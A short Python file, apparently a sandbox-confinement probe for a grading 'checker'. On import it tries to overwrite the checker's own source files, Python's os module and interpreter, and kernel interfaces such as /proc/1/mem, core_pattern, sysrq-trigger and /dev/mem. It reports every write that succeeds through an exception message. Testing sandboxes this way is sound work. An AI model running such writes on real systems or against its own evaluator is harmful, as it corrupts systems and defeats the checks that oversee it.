"""Writes into the processes, the checker's files, Python's own library and the kernel's switches."""

import os
import sys

said = []
for path in (
    "/checker/worker.py", "/checker/rpc/peer.py", "/checker/confine.py", os.__file__, sys.executable, "/proc/1/mem",
    "/proc/1/oom_score_adj", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname",
    "/dev/kmsg", "/dev/mem", "/proc/1/cwd/etc/passwd", "/proc/1/cwd/x", "/sys/kernel/mm/ksm/run",
):  # fmt: skip
    for mode in ("r+b", "wb"):
        try:
            with open(path, mode) as file:
                file.write(b"x")
            said.append(f"SUCCESS: {path}")
        except OSError:
            pass


class DurableEngine:
    def run(self, workflow, state):
        raise RuntimeError(f"{said}")
